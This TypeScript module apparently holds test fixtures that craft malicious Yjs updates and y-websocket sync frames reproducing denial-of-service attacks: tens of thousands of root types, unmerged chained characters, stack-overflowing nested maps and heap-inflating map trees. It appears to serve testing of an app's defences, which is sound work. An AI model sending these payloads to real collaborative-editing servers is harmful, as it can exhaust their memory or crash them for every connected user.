import * as encoding from 'lib0/encoding';
import * as Y from 'yjs';

/**
 * Yjs updates an attacker crafts with stock `yjs`, at the sizes of issue 12's attacks. Each is
 * the update of ONE transaction, taken from `doc.on('update')`: `Y.encodeStateAsUpdate` is
 * quadratic in root types and would take seconds for the first of them.
 */

/** The update one transaction of `build` on `doc` produces (null if it changed nothing). */
export function oneTransaction(build: (doc: Y.Doc) => void, doc = new Y.Doc()): Uint8Array | null {
  let update: Uint8Array | null = null;
  const capture = (u: Uint8Array) => (update = u);
  doc.on('update', capture);
  try {
    doc.transact(() => build(doc));
  } finally {
    doc.off('update', capture);
  }
  return update;
}

/**
 * Attack 1: `count` root types in one update (~792 KB for 70,000), each a Y.Text holding one
 * character. Written byte by byte in Yjs's own v1 encoding: stock Yjs, encoding this, runs for
 * seconds (quadratic in root types), which is the attack's point.
 */
export function manyRoots(count = 70_000, client = 4_242_424): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 1); // structs of one client
  encoding.writeVarUint(e, count);
  encoding.writeVarUint(e, client);
  encoding.writeVarUint(e, 0); // from clock 0
  for (let i = 0; i < count; i++) {
    encoding.writeUint8(e, 4); // an item of string content, no origins, no key in its parent
    encoding.writeVarUint(e, 1); // its parent is a root type, named:
    encoding.writeVarString(e, `root${i}`);
    encoding.writeVarString(e, 'x');
  }
  encoding.writeVarUint(e, 0); // no deletions
  return encoding.toUint8Array(e);
}

/**
 * `count` characters typed into the text whose item is `text`, each a struct of its own placed
 * by the one before: 100,000 of them fit in under 1 MB. Yjs would merge them; a crafted client does not.
 */
export function chainedCharacters(count: number, text: Y.ID, client = 7_777_777): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 1);
  encoding.writeVarUint(e, count);
  encoding.writeVarUint(e, client);
  encoding.writeVarUint(e, 0);
  for (let i = 0; i < count; i++) {
    if (i === 0) {
      encoding.writeUint8(e, 4); // characters, placed by their parent:
      encoding.writeVarUint(e, 0); // a struct, by id
      encoding.writeVarUint(e, text.client);
      encoding.writeVarUint(e, text.clock);
    } else {
      encoding.writeUint8(e, 4 | 0x80); // characters, placed after…
      encoding.writeVarUint(e, client); // …the struct before
      encoding.writeVarUint(e, i - 1);
    }
    encoding.writeVarString(e, 'y');
  }
  encoding.writeVarUint(e, 0);
  return encoding.toUint8Array(e);
}

/**
 * Attack 3: maps nested `depth` deep under one entry (~243 KB for 20,000), and the ~10-byte
 * update that deletes their root: applied, Yjs overflows the stack deleting and collecting them
 * (so the delete is written by hand: the attacker's own Yjs would overflow making it).
 */
export function deepMaps(depth = 20_000): { nested: Uint8Array; deleteRoot: Uint8Array } {
  const doc = new Y.Doc();
  const nested = oneTransaction((d) => {
    let map = new Y.Map<unknown>();
    d.getMap('entries').set('deep', map); // the first struct: clock 0
    for (let i = 0; i < depth; i++) {
      const next = new Y.Map<unknown>();
      map.set('m', next);
      map = next;
    }
  }, doc)!;
  return { nested, deleteRoot: rawStructsAndDeletions([], [{ client: doc.clientID, clock: 0, len: 1 }]) };
}

/**
 * Attack 2: entries that look like the app's, each holding maps of maps (what costs 37–75×
 * its size in heap once integrated), about `bytes` in all.
 */
export function nestedMapsInEntries(bytes = 900_000, author: 'a' | 'b' = 'a'): Uint8Array {
  const doc = new Y.Doc();
  let size = 0;
  for (let batch = 0; size < bytes && batch < 1_000; batch++) {
    const update = oneTransaction((d) => {
      for (let e = 0; e < 10; e++) {
        const entry = new Y.Map<unknown>();
        d.getMap('entries').set(`nest-${batch}-${e}`, entry);
        entry.set('exercise', 'bring-need');
        entry.set('column', 'bring');
        entry.set('author', author);
        entry.set('createdAt', 1);
        entry.set('text', new Y.Text('x'));
        const inner = new Y.Map<unknown>();
        entry.set('meta', inner);
        for (let m = 0; m < 20; m++) {
          const leaf = new Y.Map<unknown>();
          inner.set(`m${m}`, leaf);
          leaf.set('v', m);
        }
      }
    }, doc)!;
    size += update.length;
  }
  return Y.encodeStateAsUpdate(doc);
}

/** A raw update (Yjs v1 encoding) of only collected structs and deletions, which stock clients write when they sync. */
export function rawStructsAndDeletions(gcs: { client: number; clock: number; len: number }[], deletions: { client: number; clock: number; len: number }[]): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, gcs.length);
  for (const gc of gcs) {
    encoding.writeVarUint(e, 1); // one struct of this client
    encoding.writeVarUint(e, gc.client);
    encoding.writeVarUint(e, gc.clock);
    encoding.writeUint8(e, 0); // a collected struct (Y.GC)
    encoding.writeVarUint(e, gc.len);
  }
  encoding.writeVarUint(e, deletions.length);
  for (const d of deletions) {
    encoding.writeVarUint(e, d.client);
    encoding.writeVarUint(e, 1);
    encoding.writeVarUint(e, d.clock);
    encoding.writeVarUint(e, d.len);
  }
  return encoding.toUint8Array(e);
}

/** A y-websocket sync frame: message type 0, then `subtype` (0 step 1, 1 step 2, 2 update) and the payload. */
export function syncFrame(subtype: 0 | 1 | 2, payload: Uint8Array): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 0);
  encoding.writeVarUint(e, subtype);
  encoding.writeVarUint8Array(e, payload);
  return encoding.toUint8Array(e);
}
